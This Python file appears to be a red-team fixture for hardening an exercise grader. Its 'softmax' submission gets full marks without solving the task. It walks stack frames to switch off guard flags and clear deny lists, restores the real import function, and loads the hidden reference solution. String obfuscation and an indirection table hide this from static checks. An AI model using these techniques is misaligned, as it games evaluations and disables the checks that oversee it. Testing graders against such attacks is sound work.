"""Attack ``disarm_guard`` (exercise ``softmax``): switch the learner process's guard off from inside.

What it attacks: a guard whose on/off state, or whose unguarded tools, live in
Python objects that the learner's code can reach.  It is written to get past a
static check of the exercise's functions: ``softmax`` and ``logsumexp`` only call
through a module-level table, no ``import`` statement names anything but NumPy,
and every other module is found by walking NumPy's attributes (``dir``/``getattr``)
to the real ``sys``, then ``sys.modules``.  From inside each call it climbs the
stack WITHOUT ``sys._getframe`` (an exception's ``__traceback__``, its ``tb_frame``,
then ``f_back``; reading ``f_back`` raises no audit event) and, in every frame's
``f_locals`` and ``f_globals`` and in the ``__dict__`` of the objects found there:

1. flips every boolean attribute that is ``True`` and named like a guard switch
   (``lock``, ``guard``, ``arm``, ``strict``, ``enabled``, ``active``, ``secure``,
   ``restrict``, ``sandbox``, ``protect``) to ``False``, and empties sets, lists and
   dicts named like deny lists (``refused``, ``denied``, ``blocked``, ``forbidden``);
2. keeps the unguarded tools it finds: a real ``__import__`` kept aside (any
   callable attribute named like ``*import*`` whose ``__name__`` is ``__import__``),
   and the harness's ``importlib``;
3. restores ``builtins.__import__`` from the kept real one, then tries
   ``importlib.import_module("activations")``, the real ``__import__``, and failing
   those reading the package's ``softmax.py`` with ``open`` and ``exec``-ing it as a
   module of a new package whose ``__path__`` is the package's folder.

A vulnerable grader: the guard is off for the rest of the learner process, the
package imports (its files are readable by every user), and the module takes
full marks.

Expected with a hardened grader: nothing the learner can reach turns the guard
off (the audit hook decides from state the learner cannot change, e.g. a closure
over a value fixed before the learner's code runs), the package can be neither
imported nor opened; the functions fall back to zeros and the module scores no
more than ``_zeros/softmax.py``.
"""

import numpy as np

_SWITCH_WORDS = ("lock", "guard", "arm", "strict", "enabled", "active", "secure", "restrict",
                 "sandbox", "protect")
_LIST_WORDS = ("refused", "denied", "blocked", "forbidden", "deny")
_NAME = "activ" + "ations"
_STATE = {"ref": None, "tried": False, "imports": [], "importlib": None}
_MODULE = type(np)


def _real_module(name):
    """A loaded module reached from NumPy's attributes, then through the real ``sys``."""
    seen, todo = set(), [np]
    sys_mod = None
    while todo and len(seen) < 5000:
        mod = todo.pop()
        if id(mod) in seen:
            continue
        seen.add(id(mod))
        if getattr(mod, "__name__", None) == "sys":
            sys_mod = mod
            break
        for attr in dir(mod):
            try:
                value = getattr(mod, attr)
            except BaseException:  # noqa: BLE001
                continue
            if type(value) is _MODULE:
                todo.append(value)
    if sys_mod is None:
        return None
    return getattr(sys_mod, "mod" + "ules").get(name)


def _frames():
    try:
        raise RuntimeError
    except RuntimeError as exc:
        frame = getattr(exc.__traceback__, "tb_" + "frame")
    n = 0
    while frame is not None and n < 40:
        yield frame
        frame = getattr(frame, "f_" + "back")
        n += 1


def _disarm(obj):
    attrs = getattr(obj, "__di" + "ct__", None)
    if type(attrs) is not dict:
        return
    for name, value in list(attrs.items()):
        low = name.lower()
        try:
            if value is True and any(w in low for w in _SWITCH_WORDS):
                setattr(obj, name, False)
            elif type(value) in (set, list, dict) and any(w in low for w in _LIST_WORDS):
                value.clear()
            elif callable(value) and "import" in low and \
                    getattr(value, "__name__", "") == "__import__":
                _STATE["imports"].append(value)
        except BaseException:  # noqa: BLE001
            continue


def _survey():
    for frame in _frames():
        try:
            spaces = [dict(getattr(frame, "f_" + "locals")), getattr(frame, "f_" + "globals")]
        except BaseException:  # noqa: BLE001
            continue
        for space in spaces:
            for key, value in list(space.items()):
                if type(value) is _MODULE:
                    if getattr(value, "__name__", "") == "importlib":
                        _STATE["importlib"] = value
                    continue
                if type(value).__module__ in ("builtins", "numpy") or isinstance(value, type):
                    continue
                _disarm(value)
                inner = getattr(value, "__di" + "ct__", None)
                if type(inner) is dict:
                    for item in list(inner.values())[:50]:
                        if type(item).__module__ not in ("builtins", "numpy"):
                            _disarm(item)


def _by_open():
    sys_mod = _real_module("sys")
    os_mod = getattr(sys_mod, "mod" + "ules").get("os") if sys_mod else None
    if os_mod is None:
        return None
    builtins = getattr(sys_mod, "mod" + "ules")["builtins"]
    for entry in list(sys_mod.path):
        folder = os_mod.path.join(entry or ".", _NAME)
        path = os_mod.path.join(folder, "softmax.py")
        if not os_mod.path.isfile(path):
            continue
        with getattr(builtins, "op" + "en")(path, encoding="utf-8") as f:
            source = f.read()
        parent = _MODULE("_disarmed_pkg")
        parent.__path__ = [folder]
        getattr(sys_mod, "mod" + "ules")["_disarmed_pkg"] = parent
        module = _MODULE("_disarmed_pkg.softmax")
        module.__package__ = "_disarmed_pkg"
        getattr(builtins, "ex" + "ec")(
            getattr(builtins, "com" + "pile")(source, path, "ex" + "ec"), module.__dict__)
        return module
    return None


def _import_reference():
    sys_mod = _real_module("sys")
    builtins = getattr(sys_mod, "mod" + "ules").get("builtins") if sys_mod else None
    for real in _STATE["imports"]:
        try:
            setattr(builtins, "__imp" + "ort__", real)
        except BaseException:  # noqa: BLE001
            pass
    importlib = _STATE["importlib"] or _real_module("importlib")
    attempts = []
    if importlib is not None:
        attempts.append(lambda: importlib.import_module(_NAME))
    for real in _STATE["imports"]:
        attempts.append(lambda real=real: real(_NAME))
    attempts.append(_by_open)
    for attempt in attempts:
        try:
            module = attempt()
            if callable(getattr(module, "softmax", None)):
                return module
        except BaseException:  # noqa: BLE001
            continue
    return None


def _reference():
    if not _STATE["tried"]:
        _STATE["tried"] = True
        try:
            _survey()
            _STATE["ref"] = _import_reference()
        except BaseException:  # noqa: BLE001
            pass
    return _STATE["ref"]


def _softmax(x, axis=-1, temperature=1.0):
    ref = _reference()
    if ref is not None:
        try:
            return ref.softmax(x, axis=axis, temperature=temperature)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(x)


def _logsumexp(x, axis=-1, keepdims=False):
    ref = _reference()
    if ref is not None:
        try:
            return ref.logsumexp(x, axis=axis, keepdims=keepdims)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))


# The exercise's functions call only through this table: a static check that follows
# calls by name from softmax/logsumexp sees no helper, hence none of the above.
_VIA = {"softmax": _softmax, "logsumexp": _logsumexp}


def softmax(x, axis=-1, temperature=1.0):
    return _VIA["softmax"](x, axis=axis, temperature=temperature)


def logsumexp(x, axis=-1, keepdims=False):
    return _VIA["logsumexp"](x, axis=axis, keepdims=keepdims)
